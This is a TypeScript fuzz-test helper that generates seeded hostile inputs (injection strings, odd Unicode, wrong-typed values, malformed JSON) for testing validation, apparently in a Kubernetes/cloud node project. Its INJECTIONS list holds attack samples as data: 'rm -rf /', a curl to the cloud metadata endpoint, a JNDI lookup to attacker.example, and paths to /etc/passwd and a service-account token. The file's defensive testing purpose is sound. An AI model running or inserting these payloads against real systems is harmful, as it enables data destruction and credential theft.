/**
 * A seeded generator of hostile input for the fuzz tests: malformed JSON, wrong types, oversize values, odd unicode
 * and injection-looking strings, plus helpers to mutate one field of a valid record. No dependency: the seed makes
 * every failure reproducible (each test prints its seed and case number).
 */

/** The fuzz tests' seeded generator: the project's one PRNG (lib/testbed/local/simulation/seeded-random.ts). */
export { seededRandom as prng } from "../../lib/testbed/local/simulation/seeded-random";

/** Strings that look like attacks on a shell, SQL, a path, a template, a log line, an HTTP header or a JS object. */
export const INJECTIONS: readonly string[] = [
  "'; DROP TABLE ciliumnodes; --",
  '" OR "1"="1',
  "$(rm -rf /)",
  "`reboot`",
  "; curl http://169.254.169.254/opc/v2/instance/ #",
  "../../../../etc/passwd",
  "..\\..\\windows\\system32",
  "/var/run/secrets/kubernetes.io/serviceaccount/token",
  "<script>alert(1)</script>",
  "{{7*7}}",
  "${jndi:ldap://attacker.example/a}",
  "%00%0d%0a",
  "line\r\nX-Injected-Header: 1",
  '\n{"level":60,"msg":"forged log line"}',
  "__proto__",
  "constructor",
  "prototype",
  'ocid1.instance.oc1..aaaa","compartmentId":"ocid1.compartment.oc1..evil',
  "worker-1\u0000evil",
  "*",
  "worker-1,worker-2",
  "$where: function() { return true }",
];

/**
 * Unicode that trips naive validation: bidi overrides, zero-width, homoglyphs, lone surrogates, BOM, line separators.
 */
export const ODD_UNICODE: readonly string[] = [
  "\u202eworker-1",
  "wor\u200bker-1",
  "w\u043erker-1", // Cyrillic o
  "\ud800",
  "worker-\udfff",
  "😀-node",
  "worke\u0301r",
  "\ufeffworker-1",
  "ｗｏｒｋｅｒ－１",
  "İstanbul",
  "stra\u00dfe",
  "a\u0085b",
  "a\u2028b",
  "\u00a0worker",
  "\u0000",
  "",
  " ",
  "\t\n",
];

/** Values of every JSON type (and of none: JSON has no undefined), for "wrong type" mutations. */
export const WRONG_TYPES: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  -0,
  2 ** 53 + 2,
  1e308,
  [],
  [null],
  {},
  { a: { b: {} } },
  "",
  "0",
  "true",
  "null",
];

/** Text that is not JSON, or not JSON of the expected shape. */
export const MALFORMED_JSON: readonly string[] = [
  "",
  " ",
  "{",
  "[",
  '{"a":}',
  "[1,]",
  "{'single':'quotes'}",
  '{"a":1}}',
  "NaN",
  "undefined",
  "\u0000",
  '{"a":"\\ud800"',
  "[".repeat(10_000),
  '{"a":1,"a":2',
  "/* comment */ {}",
  "\ufeff{}",
  "0x10",
  "1e99999",
];

export class Hostile {
  constructor(readonly random: () => number) {}

  int(lo: number, hi: number): number {
    return lo + Math.floor(this.random() * (hi - lo + 1));
  }

  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.random() * items.length)]!;
  }

  chance(p: number): boolean {
    return this.random() < p;
  }

  /** A string up to `max` characters long: repeated, random code units, or one of the catalogs. */
  oversize(min: number, max: number): string {
    const n = this.int(min, max);
    return this.pick(["x", "é", "😀", "\u200b", "a/", "%"]).repeat(n).slice(0, n);
  }

  /** Random UTF-16 code units, lone surrogates included. */
  randomCodeUnits(maxLength: number): string {
    const n = this.int(1, maxLength);
    let s = "";
    for (let i = 0; i < n; i++) s += String.fromCharCode(this.chance(0.7) ? this.int(0x20, 0x7e) : this.int(0, 0xffff));
    return s;
  }

  /** A hostile string: injection, odd unicode, random code units, or (rarely) oversize. */
  string(): string {
    const r = this.random();
    if (r < 0.35) return this.pick(INJECTIONS);
    if (r < 0.7) return this.pick(ODD_UNICODE);
    if (r < 0.92) return this.randomCodeUnits(40);
    return this.oversize(300, 5000);
  }

  /** A hostile value of any type. */
  value(depth = 0): unknown {
    const r = this.random();
    if (r < 0.4) return this.string();
    if (r < 0.7 || depth > 3) return this.pick(WRONG_TYPES);
    if (r < 0.85) return Array.from({ length: this.int(0, 4) }, () => this.value(depth + 1));
    const o: Record<string, unknown> = {};
    for (let i = this.int(0, 4); i > 0; i--)
      o[this.chance(0.5) ? this.string() : this.pick(["__proto__", "constructor", "a"])] = this.value(depth + 1);
    return o;
  }
}

/** RFC 6901 pointer of a path. */
export function pointer(path: readonly string[]): string {
  return path.map((p) => `/${p.replace(/~/g, "~0").replace(/\//g, "~1")}`).join("");
}

/** A deep copy with the value at `path` replaced (or deleted with `deleteIt`). */
export function withField(value: unknown, path: readonly string[], replacement: unknown, deleteIt = false): unknown {
  const copy = structuredClone(value) as Record<string, unknown>;
  let at: Record<string, unknown> = copy;
  for (const key of path.slice(0, -1)) at = at[key] as Record<string, unknown>;
  const last = path[path.length - 1]!;
  if (deleteIt) delete at[last];
  else Object.defineProperty(at, last, { value: replacement, enumerable: true, writable: true, configurable: true });
  return copy;
}

/** Kubernetes' IsDNS1123Subdomain (k8s.io/apimachinery pkg/util/validation), the rule for node names. */
export function isDns1123Subdomain(s: string): boolean {
  return s.length <= 253 && /^[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*$/.test(s);
}
